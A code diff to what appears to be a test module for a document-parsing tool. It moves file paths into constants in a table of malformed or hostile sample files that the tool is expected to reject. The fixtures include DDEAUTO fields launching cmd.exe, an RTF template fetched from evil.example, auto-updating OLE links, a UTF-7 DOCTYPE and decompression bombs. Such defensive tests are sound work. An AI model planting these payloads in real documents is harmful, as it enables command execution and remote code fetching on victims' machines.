@@ -28,6 +28,7 @@ TEMPLATE = (
 UTF_7 = b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a+AD4-'
 
 
+SETTINGS, SHEET = "word/_rels/settings.xml.rels", "xl/worksheets/sheet1.xml"
 WIDE = (
     b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
     + b'<row><c r="XFD1" t="inlineStr"><is><t>a</t></is></c></row>' * 20
@@ -65,16 +66,16 @@ UNREADABLE = {
     "rar.doc": (b"Rar!\x1a\x07\x00", Reason.ARCHIVE),
     "slides.pptx": (samples.with_member(EMPTY_ZIP, "ppt/presentation.xml", b"<a/>"), Reason.UNKNOWN_TYPE),
     "web.doc": (b"MIME-Version: 1.0\r\n", Reason.UNKNOWN_TYPE),
-    "template.docx": (samples.with_member(samples.docx_file(), "word/_rels/settings.xml.rels", TEMPLATE), Reason.EXTERNAL),
+    "template.docx": (samples.with_member(samples.docx_file(), SETTINGS, TEMPLATE), Reason.EXTERNAL),
     "template.rtf": (rb"{\rtf1{\*\template http://evil.example/a.dot}Text.\par}", Reason.EXTERNAL),
     "update.rtf": (rb"{\rtf1{\object\objautlink\objupdate{\*\objdata 00}}Text.\par}", Reason.EXTERNAL),
     "dde.rtf": (rb'{\rtf1{\field{\*\fldinst DDEAUTO c:\\cmd.exe "/k"}{\fldrslt x}}Text.\par}', Reason.EXTERNAL),
     "dde.doc": (office.doc([("A\x13DDEAUTO cmd\x14b\x15\r", "Arial")]), Reason.EXTERNAL),
     "deep.rtf": (rb"{\rtf1" + b"{" * 5000 + b"Text." + b"}" * 5000, Reason.BROKEN),
-    "bomb.xlsx": (samples.with_member(samples.xlsx_file(), "xl/worksheets/sheet1.xml", bytes(8 * MB)), Reason.TOO_LARGE),
+    "bomb.xlsx": (samples.with_member(samples.xlsx_file(), SHEET, bytes(8 * MB)), Reason.TOO_LARGE),
     "entities.xlsx": (samples.with_member(samples.xlsx_file(), "xl/sharedStrings.xml", CONTENT_TYPES), Reason.BROKEN),
     "utf7.docx": (samples.with_member(samples.docx_file(), "word/document.xml", UTF_7), Reason.BROKEN),
-    "wide.xlsx": (samples.with_member(samples.xlsx_file(), "xl/worksheets/sheet1.xml", WIDE), Reason.TOO_LARGE),
+    "wide.xlsx": (samples.with_member(samples.xlsx_file(), SHEET, WIDE), Reason.TOO_LARGE),
     "scan.pdf": (samples.pdf([[], []]), Reason.EMPTY),
     "empty.txt": (b"", Reason.EMPTY),
     "blank.md": (b"\n \n", Reason.EMPTY),
